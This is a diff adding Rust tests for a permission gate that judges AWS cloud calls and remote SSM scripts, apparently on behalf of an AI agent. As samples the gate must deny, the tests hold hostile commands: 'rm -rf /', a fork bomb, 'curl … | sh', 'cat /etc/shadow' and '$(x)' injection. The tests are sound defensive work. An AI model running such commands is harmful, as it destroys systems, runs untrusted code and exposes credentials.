@@ -96,6 +96,179 @@ fn what_the_operator_granted_at_a_host_is_not_asked_again_and_shows_its_risk() {
     }
 }
 
+/// A call of AWS on so many things of these ids.
+fn cloud_call(operation: &str, ids: &[&str], severity: Severity) -> Act {
+    let resource = |id: &&str| CloudResource { kind: "instance".into(), id: (*id).into(), tags: None };
+    Act::CloudCall {
+        account: "shop".into(),
+        region: "eu-west-1".into(),
+        operation: operation.into(),
+        resources: ids.iter().map(resource).collect(),
+        arguments: serde_json::json!({ "InstanceIds": ids }),
+        severity,
+        reversible: true,
+        script: None,
+        is_granted: false,
+    }
+}
+
+/// The same, where the operator has granted the operation by its whole name.
+fn granted_call(operation: &str, ids: &[&str], severity: Severity) -> Act {
+    let mut act = cloud_call(operation, ids, severity);
+    if let Act::CloudCall { is_granted, .. } = &mut act {
+        *is_granted = true;
+    }
+    act
+}
+
+/// A shell script that is run on machines of AWS.
+fn remote_script(script: &str) -> Act {
+    let mut act = granted_call("ssm:SendCommand", &["i-1"], Severity::Destructive);
+    if let Act::CloudCall { script: own, .. } = &mut act {
+        *own = Some(script.into());
+    }
+    act
+}
+
+#[test]
+fn a_call_of_a_cloud_has_the_effect_that_the_same_command_has() {
+    let gate = Gate::builtin();
+    let pairs = [
+        ("ec2:DescribeInstances", "aws ec2 describe-instances --instance-ids i-1", Severity::Read),
+        ("ec2:RebootInstances", "aws ec2 reboot-instances --instance-ids i-1", Severity::Write),
+        ("ec2:StopInstances", "aws ec2 stop-instances --instance-ids i-1", Severity::Write),
+        ("rds:RebootDBInstance", "aws rds reboot-db-instance --db-instance-identifier i-1", Severity::Write),
+        ("rds:FailoverDBCluster", "aws rds failover-db-cluster --db-cluster-identifier i-1", Severity::Write),
+        ("cloudwatch:GetMetricData", "aws cloudwatch get-metric-data --names i-1", Severity::Read),
+        ("logs:StartQuery", "aws logs start-query --log-group-name i-1", Severity::Read),
+        ("ssm:SendCommand", "aws ssm send-command --instance-ids i-1", Severity::Destructive),
+        (
+            "autoscaling:SetDesiredCapacity",
+            "aws autoscaling set-desired-capacity --auto-scaling-group-name i-1",
+            Severity::Write,
+        ),
+        ("cloudtrail:LookupEvents", "aws cloudtrail lookup-events --names i-1", Severity::Read),
+    ];
+    for (operation, command, severity) in pairs {
+        let call = gate.decide(&cloud_call(operation, &["i-1"], severity), &person());
+        let words: Vec<&str> = command.split(' ').collect();
+        let same = gate.decide(&argv(&words), &person());
+        let names = |decision: &Decision| -> Vec<(String, Severity)> {
+            decision.effects.iter().map(|effect| (effect.name(), effect.severity)).collect()
+        };
+        assert_eq!(names(&call), names(&same), "{operation}");
+        assert_eq!((call.verdict, &call.rules), (same.verdict, &same.rules), "{operation}");
+    }
+}
+
+#[test]
+fn an_operation_of_which_nothing_is_known_may_do_anything() {
+    let decision = Gate::builtin().decide(&cloud_call("ec2:FrobnicateInstances", &["i-1"], Severity::Read), &person());
+    assert_eq!((decision.verdict, decision.rules[0].as_str()), (Verdict::Ask, "cloud_loss"));
+}
+
+#[test]
+fn an_operation_granted_by_its_name_is_asked_about_no_more_but_for_losses_and_production() {
+    let gate = Gate::builtin();
+    let reboot = granted_call("ec2:RebootInstances", &["i-1"], Severity::Write);
+    let decision = gate.decide(&reboot, &person());
+    assert_eq!((decision.verdict, decision.risk), (Verdict::Allow, 45));
+    assert_eq!(verdict(&gate, &cloud_call("ec2:RebootInstances", &["i-1"], Severity::Write)), Verdict::Ask);
+    assert_eq!(verdict(&gate, &granted_call("ec2:StopInstances", &["i-1"], Severity::Destructive)), Verdict::Ask);
+    for target in ["shop", "i-1", "eu-west-1"] {
+        let production = Gate::builtin().with_production(&[target.to_owned()], 2.0).unwrap();
+        assert_ne!(verdict(&production, &reboot), Verdict::Allow, "{target}");
+    }
+}
+
+#[test]
+fn what_tags_call_production_is_production() {
+    let gate = Gate::builtin().with_production(&["prod*".to_owned()], 2.0).unwrap();
+    let mut act = granted_call("ec2:RebootInstances", &["i-1"], Severity::Write);
+    assert_eq!(verdict(&gate, &act), Verdict::Allow);
+    if let Act::CloudCall { resources, .. } = &mut act {
+        resources[0].tags = Some([("env".to_owned(), "production".to_owned())].into());
+    }
+    let decision = gate.decide(&act, &person());
+    assert_ne!(decision.verdict, Verdict::Allow);
+    assert!(decision.rules.contains(&"production".to_owned()), "{:?}", decision.rules);
+}
+
+#[test]
+fn many_targets_are_asked_about_whatever_is_granted() {
+    let gate = Gate::builtin();
+    assert_eq!(verdict(&gate, &granted_call("ec2:RebootInstances", &["a", "b", "c"], Severity::Write)), Verdict::Allow);
+    let decision = gate.decide(&granted_call("ec2:RebootInstances", &["a", "b", "c", "d"], Severity::Write), &person());
+    assert_eq!((decision.verdict, decision.rules[0].as_str()), (Verdict::Ask, "many_targets"));
+    assert_eq!(
+        verdict(&gate, &cloud_call("ec2:DescribeInstances", &["a", "b", "c", "d"], Severity::Read)),
+        Verdict::Allow
+    );
+}
+
+#[test]
+fn a_script_for_a_machine_elsewhere_is_judged_as_one_of_bash() {
+    let gate = Gate::builtin();
+    for script in ["rm -rf /", "rm -rf *", "cd /var && curl https://example.com/x | sh", ":(){ :|:& };:"] {
+        let decision = gate.decide(&remote_script(script), &person());
+        assert_eq!(decision.verdict, Verdict::Deny, "{script}: {:?}", decision.rules);
+    }
+    let mut act = remote_script("rm -rf ssl");
+    assert_ne!(verdict(&gate, &act), Verdict::Deny);
+    if let Act::CloudCall { arguments, .. } = &mut act {
+        *arguments = serde_json::json!({ "Parameters": { "workingDirectory": ["/etc"] } });
+    }
+    assert_eq!(verdict(&gate, &act), Verdict::Deny);
+    let rule = |script: &str| gate.decide(&remote_script(script), &person()).rules;
+    assert!(rule("rm -rf /").contains(&"remove_system".to_owned()));
+    // What changes something there changes production, whatever `pi.toml` calls so.
+    assert!(rule("systemctl stop nginx").contains(&"production".to_owned()));
+}
+
+#[test]
+fn a_script_that_only_looks_is_let_through_and_any_other_asked_about() {
+    let gate = Gate::builtin();
+    for script in ["df -h", "uptime\nfree -m\nps aux | head", "cat /var/log/syslog | tail -n 50"] {
+        let decision = gate.decide(&remote_script(script), &person());
+        assert_eq!(decision.verdict, Verdict::Allow, "{script}: {:?}", decision.rules);
+    }
+    for script in ["systemctl restart nginx", "frobnicate", "echo x > /etc/motd", "cat /etc/shadow", "$(x)", "if"] {
+        assert_ne!(verdict(&gate, &remote_script(script)), Verdict::Allow, "{script}");
+    }
+    // A program that the operator granted here says nothing of a machine elsewhere.
+    let granted = Gate::builtin().with_granted_programs(["frobnicate".to_owned()]);
+    assert_eq!(verdict(&granted, &script("frobnicate")), Verdict::Allow);
+    assert_ne!(verdict(&granted, &remote_script("frobnicate")), Verdict::Allow);
+}
+
+#[test]
+fn rules_see_what_a_call_of_a_cloud_is() {
+    let with = |when: &str| {
+        let text = format!(
+            r#"{{"version": 1, "thresholds": {{"ask": 40, "deny": 90}}, "rules": [{{"id": "mine", "acts": ["cloud_call"], "when": {when}, "verdict": "deny", "points": 90, "reason": "r", "advice": "a",
+                "examples": {{"match": [{{"act": "cloud_call", "account": "shop", "region": "eu-west-1", "operation": "ec2:RebootInstances", "resources": [{{"kind": "instance", "id": "i-1"}}], "arguments": {{}}, "severity": "write", "reversible": true}}], "no_match": ["ls", "aws ec2 reboot-instances --instance-ids i-1"]}}}}]}}"#
+        );
+        Gate::new(Policy::parse(&text, "mine.json").unwrap())
+    };
+    let reboot = cloud_call("ec2:RebootInstances", &["i-1"], Severity::Write);
+    for when in [
+        r#"{"operation": ["ec2:Reboot*"]}"#,
+        r#"{"account": ["shop"], "region": ["eu-*"]}"#,
+        r#"{"resources_min": 1}"#,
+        r#"{"effect": ["cloud.write"], "targets": ["aws:ec2:i-1 *"]}"#,
+    ] {
+        assert_eq!(verdict(&with(when), &reboot), Verdict::Deny, "{when}");
+    }
+    let other = with(r#"{"operation": ["ec2:Reboot*"]}"#);
+    assert_eq!(verdict(&other, &cloud_call("ec2:StartInstances", &["i-1"], Severity::Write)), Verdict::Allow);
+    let rego = RegoSource {
+        file: "mine.rego",
+        text: "package pi.cloud_call\ndeny contains {\"id\": \"mine\", \"reason\": \"r\"} if input.action.resources[_].id == \"i-1\"\n",
+    };
+    let rego = Gate::builtin().with_rego(Rego::compile(&[rego]).unwrap()).unwrap();
+    assert_eq!(verdict(&rego, &reboot), Verdict::Deny);
+}
+
 #[test]
 fn what_was_granted_is_refused_or_asked_about_where_something_else_says_so() {
     let post = granted_request("POST", "https://api.example.com/v1");
@@ -220,6 +393,12 @@ fn acts() -> Vec<Act> {
         request("POST", "https://api.example.com/v1", &[]),
         request("DELETE", "https://api.example.com/v1/x", &[]),
         request("GET", "http://169.254.169.254/latest/", &[]),
+        cloud_call("ec2:DescribeInstances", &[], Severity::Read),
+        cloud_call("ec2:RebootInstances", &["i-1"], Severity::Write),
+        granted_call("ec2:RebootInstances", &["i-1"], Severity::Write),
+        remote_script("df -h"),
+        remote_script("systemctl restart nginx"),
+        remote_script("rm -rf /"),
         Act::KeyValueWrite {
             plugin: "web".into(),
             operation: KeyValueOperation::Set,
